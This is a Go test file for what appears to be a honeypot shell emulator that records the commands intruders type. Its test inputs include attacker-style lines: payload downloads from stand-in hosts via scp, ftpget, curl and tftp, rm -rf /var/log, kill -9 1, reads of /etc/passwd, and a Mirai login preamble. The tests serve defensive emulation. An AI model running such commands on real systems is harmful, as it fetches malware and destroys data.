package shell

import (
	"strings"
	"testing"
)

func run(t *testing.T, lines ...string) (string, *Shell, *captureRecorder) {
	t.Helper()
	sh, out, rec := newTestShell(t)
	for _, l := range lines {
		sh.Run(l)
	}
	return out.String(), sh, rec
}

func TestSystemInfoCommands(t *testing.T) {
	cases := []struct {
		line string
		want string
	}{
		{"free", "Mem:"},
		{"free -m", "Swap:"},
		{"w", "load average"},
		{"who", "pts/0"},
		{"id", "uid=0(root)"},
		{"whoami", "root"},
		{"hostname", "svr04"},
		{"ps aux", "PID"},
		{"top", "Tasks:"},
		{"nproc", "1"},
		{"lscpu", "Architecture"},
		{"uptime", "load average"},
		{"df -h", "Filesystem"},
		{"du -sh", "."},
		{"mount", "ext4"},
		{"ifconfig", "eth0"},
		{"ip addr", "eth0"},
		{"netstat -an", "ESTABLISHED"},
		{"ss", "ESTABLISHED"},
		{"crontab -l", "no crontab"},
		{"passwd", "updated successfully"},
	}
	for _, c := range cases {
		out, _, _ := run(t, c.line)
		if !strings.Contains(out, c.want) {
			t.Errorf("%q output %q missing %q", c.line, out, c.want)
		}
	}
}

func TestHostnameSet(t *testing.T) {
	out, sh, _ := run(t, "hostname evil-node", "hostname")
	if sh.Host != "evil-node" || !strings.Contains(out, "evil-node") {
		t.Errorf("hostname set failed: %q", out)
	}
}

func TestWhichCommand(t *testing.T) {
	out, _, _ := run(t, "which wget uname nosuchtool")
	if !strings.Contains(out, "/bin/wget") || !strings.Contains(out, "/bin/uname") {
		t.Errorf("which = %q", out)
	}
	if strings.Contains(out, "nosuchtool") {
		t.Errorf("which should stay silent for unknown tools: %q", out)
	}
}

func TestYesBounded(t *testing.T) {
	out, _, _ := run(t, "yes spam")
	n := strings.Count(out, "spam")
	if n == 0 || n > 1000 {
		t.Errorf("yes produced %d lines", n)
	}
}

func TestMkdirVariants(t *testing.T) {
	out, sh, _ := run(t, "mkdir /tmp/a", "mkdir -p /tmp/b/c/d", "mkdir /tmp/a")
	if !sh.FS.Exists("/", "/tmp/a") || !sh.FS.Exists("/", "/tmp/b/c/d") {
		t.Error("mkdir failed")
	}
	if !strings.Contains(out, "File exists") {
		t.Errorf("duplicate mkdir should report: %q", out)
	}
}

func TestRmVariants(t *testing.T) {
	out, sh, _ := run(t,
		"touch /tmp/f1",
		"rm /tmp/f1",
		"rm /tmp/missing",
		"rm -f /tmp/missing2",
		"rm -rf /var/log",
	)
	if sh.FS.Exists("/", "/tmp/f1") || sh.FS.Exists("/", "/var/log") {
		t.Error("rm did not remove targets")
	}
	if !strings.Contains(out, "cannot remove '/tmp/missing'") {
		t.Errorf("rm missing should report: %q", out)
	}
	if strings.Contains(out, "missing2") {
		t.Errorf("rm -f must be silent: %q", out)
	}
}

func TestCpIntoDirectory(t *testing.T) {
	_, sh, _ := run(t, "cp /etc/hostname /tmp")
	content, err := sh.FS.ReadFile("/", "/tmp/hostname")
	if err != nil || !strings.Contains(string(content), "svr04") {
		t.Errorf("cp into dir: %q err=%v", content, err)
	}
}

func TestMvMissingOperand(t *testing.T) {
	out, _, _ := run(t, "mv /tmp/x")
	if !strings.Contains(out, "missing file operand") {
		t.Errorf("mv = %q", out)
	}
}

func TestChmodMissingFile(t *testing.T) {
	out, _, _ := run(t, "chmod 777 /no/such/file")
	if !strings.Contains(out, "cannot access") {
		t.Errorf("chmod = %q", out)
	}
}

func TestEchoFlagCombos(t *testing.T) {
	out, _, _ := run(t, "echo -n no-newline")
	if out != "no-newline" {
		t.Errorf("echo -n = %q", out)
	}
	out2, _, _ := run(t, `echo -e "tab\there"`)
	if !strings.Contains(out2, "tab\there") {
		t.Errorf("echo -e = %q", out2)
	}
	out3, _, _ := run(t, `echo -ne "oct\101"`)
	if out3 != "octA" {
		t.Errorf("echo octal = %q", out3)
	}
}

func TestGrepFileAndExitCodes(t *testing.T) {
	sh, out, _ := newTestShell(t)
	if rc := sh.Run("grep root /etc/passwd"); rc != 0 {
		t.Errorf("grep hit rc = %d", rc)
	}
	if !strings.Contains(out.String(), "root:x:0:0") {
		t.Errorf("grep output = %q", out.String())
	}
	if rc := sh.Run("grep nosuchstring /etc/passwd"); rc != 1 {
		t.Errorf("grep miss rc = %d", rc)
	}
	if rc := sh.Run("grep pattern /no/file"); rc != 2 {
		t.Errorf("grep missing file rc = %d", rc)
	}
	if rc := sh.Run("grep"); rc != 2 {
		t.Errorf("grep usage rc = %d", rc)
	}
}

func TestWcModes(t *testing.T) {
	out, _, _ := run(t, "echo one two | wc")
	if !strings.Contains(out, "1") || !strings.Contains(out, "2") {
		t.Errorf("wc = %q", out)
	}
}

func TestHeadTailFiles(t *testing.T) {
	out, _, _ := run(t, "head -n 1 /etc/passwd")
	if !strings.HasPrefix(out, "root:") || strings.Count(out, "\n") != 1 {
		t.Errorf("head file = %q", out)
	}
	out2, _, _ := run(t, "head -2 /etc/passwd | wc -l")
	if strings.TrimSpace(out2) != "2" {
		t.Errorf("head -N = %q", out2)
	}
	out3, _, _ := run(t, "tail /no/file")
	if !strings.Contains(out3, "cannot open") {
		t.Errorf("tail missing = %q", out3)
	}
}

func TestDdToDevNull(t *testing.T) {
	_, sh, rec := newTestShell2(t)
	sh.Run("dd if=/dev/zero of=/dev/null bs=512 count=4")
	if len(rec.files) != 0 {
		t.Errorf("dd to /dev/null should not record files: %+v", rec.files)
	}
}

// TestDdSizeBounds: a negative or overflowing size is not a panic, and
// what dd writes stays within 1 MiB.
func TestDdSizeBounds(t *testing.T) {
	_, sh, rec := newTestShell2(t)
	for _, line := range []string{
		"dd if=/dev/zero of=neg count=-1",
		"dd if=/dev/zero of=negbs bs=-512 count=4",
		"dd if=/dev/zero of=big bs=4611686018427387904 count=4",
	} {
		sh.Run(line)
	}
	if len(rec.files) != 3 {
		t.Fatalf("files = %+v, want 3", rec.files)
	}
	for _, ev := range rec.files {
		if ev.Size < 0 || ev.Size > 1<<20 {
			t.Errorf("%s: %d bytes written, want 0..1MiB", ev.Path, ev.Size)
		}
	}
}

// newTestShell2 mirrors newTestShell but returns the recorder first for
// convenience in this file.
func newTestShell2(t *testing.T) (string, *Shell, *captureRecorder) {
	t.Helper()
	sh, out, rec := newTestShell(t)
	_ = out
	return "", sh, rec
}

func TestBareRedirectCreatesFile(t *testing.T) {
	_, sh, _ := run(t, "> /tmp/empty")
	if !sh.FS.Exists("/", "/tmp/empty") {
		t.Error("bare redirect should create file")
	}
}

func TestRedirectIntoMissingDir(t *testing.T) {
	out, _, _ := run(t, "echo x > /no/such/dir/file")
	if !strings.Contains(out, "No such file") {
		t.Errorf("redirect error = %q", out)
	}
}

func TestScpDownload(t *testing.T) {
	sh, _, rec := newTestShell(t)
	sh.Fetch = func(uri string) ([]byte, error) { return []byte("via-" + uri), nil }
	rc := sh.Run("scp user@203.0.113.9:/srv/payload.bin .")
	if rc != 0 {
		t.Fatalf("scp rc = %d", rc)
	}
	if len(rec.uris) != 1 || !strings.HasPrefix(rec.uris[0], "scp://") {
		t.Errorf("uris = %v", rec.uris)
	}
	if !sh.FS.Exists("/", "/root/payload.bin") {
		t.Error("scp did not write file")
	}
}

func TestFtpgetDownload(t *testing.T) {
	sh, _, rec := newTestShell(t)
	sh.Fetch = func(string) ([]byte, error) { return []byte("ftp-data"), nil }
	rc := sh.Run("ftpget -u anonymous -p guest 203.0.113.9 local.bin remote.bin")
	if rc != 0 {
		t.Fatalf("ftpget rc = %d", rc)
	}
	if !sh.FS.Exists("/", "/root/local.bin") {
		t.Error("ftpget local name not used")
	}
	if len(rec.uris) != 1 || rec.uris[0] != "ftp://203.0.113.9/remote.bin" {
		t.Errorf("uris = %v", rec.uris)
	}
}

func TestCurlRemoteName(t *testing.T) {
	sh, _, _ := newTestShell(t)
	sh.Fetch = func(string) ([]byte, error) { return []byte("x"), nil }
	sh.Run("cd /tmp; curl -O http://x.test/tool.elf")
	if !sh.FS.Exists("/", "/tmp/tool.elf") {
		t.Error("curl -O did not save by remote name")
	}
}

func TestChainWithUnknownThenKnown(t *testing.T) {
	out, _, rec := run(t, "./installer || echo fallback")
	if !strings.Contains(out, "fallback") {
		t.Errorf("|| after unknown command failed: %q", out)
	}
	if len(rec.commands) != 2 || rec.known[0] || !rec.known[1] {
		t.Errorf("recording = %v / %v", rec.commands, rec.known)
	}
}

func TestShDashCWithoutScript(t *testing.T) {
	sh, _, _ := newTestShell(t)
	if rc := sh.Run("sh"); rc != 0 {
		t.Errorf("bare sh rc = %d", rc)
	}
}

func TestEnableSystemShellNoops(t *testing.T) {
	// The Mirai telnet preamble: all must be known no-ops.
	_, _, rec := run(t, "enable", "system", "shell", "linuxshell", "sleep 1", "sync", "kill -9 1", "ulimit -n 65535", "chown root:root /tmp")
	for i, known := range rec.known {
		if !known {
			t.Errorf("command %q should be known", rec.commands[i])
		}
	}
}

func TestBasenameFromURI(t *testing.T) {
	cases := map[string]string{
		"http://x.test/a/b/mal.bin":   "mal.bin",
		"http://x.test/":              "index.html",
		"http://x.test":               "index.html",
		"http://x.test/dl?file=x.sh":  "dl",
		"tftp://198.51.100.7/bot.arm": "bot.arm",
	}
	for uri, want := range cases {
		if got := basenameFromURI(uri); got != want {
			t.Errorf("basenameFromURI(%q) = %q, want %q", uri, got, want)
		}
	}
}

func TestModeString(t *testing.T) {
	if got := modeString(0o755); got != "rwxr-xr-x" {
		t.Errorf("modeString(755) = %q", got)
	}
	if got := modeString(0o600); got != "rw-------" {
		t.Errorf("modeString(600) = %q", got)
	}
}

func TestExpandEscapes(t *testing.T) {
	cases := map[string]string{
		`a\nb`:     "a\nb",
		`a\tb`:     "a\tb",
		`a\rb`:     "a\rb",
		`a\\b`:     `a\b`,
		`\x41\x42`: "AB",
		`\x4`:      `\x4`, // too short: literal (trailing \x4 kept)
		`\q`:       `\q`,  // unknown escape preserved
		`\101`:     "A",   // octal
	}
	for in, want := range cases {
		if got := expandEscapes(in); got != want {
			t.Errorf("expandEscapes(%q) = %q, want %q", in, got, want)
		}
	}
}
